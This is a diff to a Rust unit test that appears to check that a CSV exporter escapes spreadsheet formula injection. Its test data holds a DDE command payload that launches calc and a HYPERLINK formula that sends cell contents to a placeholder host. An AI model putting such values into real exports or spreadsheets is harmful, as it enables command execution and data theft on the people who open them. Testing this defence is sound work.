@@ -387,7 +387,7 @@ mod tests {
             device_name: Some("=HYPERLINK(\"https://x/?\"&A2,\"Open\")".into()),
             ..Default::default()
         });
-        let text = csv(&[hostile.clone()], &[0]);
+        let text = csv(std::slice::from_ref(&hostile), &[0]);
         let record = ::csv::Reader::from_reader(text.as_bytes()).records().next().unwrap().unwrap();
         assert_eq!(&record[0], "'=cmd|' /C calc'!A0@contoso.com");
         assert_eq!(&record[1], "'=HYPERLINK(\"https://x/?\"&A2,\"Open\")");
